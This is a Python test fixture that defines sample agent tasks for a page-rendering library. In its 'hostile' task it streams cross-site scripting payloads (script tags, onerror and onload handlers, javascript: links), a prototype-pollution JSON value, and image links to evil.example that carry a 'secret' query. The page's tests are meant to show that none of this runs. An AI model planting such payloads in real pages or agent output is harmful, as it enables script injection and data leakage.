"""The application that the tests of the page serve."""

import asyncio
import os
from pathlib import Path

from tailrace import Tailrace, Task
from tests import written_agent

HOSTILE = """<img src=x onerror="document.title='pwned'"> <script>document.title='pwned'</script>

[click](javascript:document.title='pwned') ![x](http://evil.example/?q=secret)

</script><script>document.title='pwned'</script> [^9] `<b>code</b>`

| <i>a</i> | b |
| --- | --- |
| <u>c</u> | http://evil.example/link |
"""


async def hostile(task: Task) -> None:
    """Everything that a page must not run or load."""
    with task.call('<img src=x onerror="document.title=1">') as call:
        call.arguments('{"__proto__": {"polluted": true}, "x": "</script>"}')
    call.start()
    await task.drain()
    svg = (
        "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' "
        "onload='parent.document.title=1'/>"
    )
    call.result(
        {
            "message_content": [{"type": "text", "text": "x"}],
            "block_list": [
                {"type": "text", "text": "<script>document.title='pwned'</script>"},
                {"type": "image", "image_url": {"url": svg}},
                {"type": "image", "image_url": {"url": "http://evil.example/pixel.png"}},
                {"type": "file", "url": "javascript:document.title='pwned'", "name": "x"},
            ],
        }
    )
    with task.message() as message:
        for piece in HOSTILE.splitlines(keepends=True):
            message.text(piece)
            await task.drain()


async def careful(task: Task) -> None:
    """Asks before it sends."""
    with task.call("send_mail") as call:
        call.arguments('{"to": "ada@example.com"}')
    await task.drain()
    answer = await task.ask("Send the mail?", kind="approval", call=call)
    if answer.approved:
        call.start()
        await task.drain()
        call.result("sent")
    with task.message() as message:
        message.text("Sent." if answer.approved else "Not sent.")


async def flood(task: Task) -> None:
    """20,000 events, as fast as they can be written."""
    with task.message() as message:
        for number in range(20_000):
            message.text(f"word{number} " if number % 40 else f"\n\nParagraph {number}. ")
            if number % 200 == 0:
                await task.drain()


def is_there(file: str) -> bool:
    return Path(file).exists()


async def slow(task: Task) -> None:
    """Writes 40 words, and 260 more when the file that it was asked for is there."""
    with task.message() as message:
        for number in range(300):
            message.text(f"w{number} ")
            await task.drain()
            while number == 40 and not is_there(task.text):  # noqa: ASYNC110  # another process
                await asyncio.sleep(0.02)


app = Tailrace(
    {
        "assistant": written_agent.assistant(0.01),
        "careful": careful,
        "flood": flood,
        "hostile": hostile,
        "slow": slow,
    },
    os.environ["TAILRACE_TEST_DB"],
)
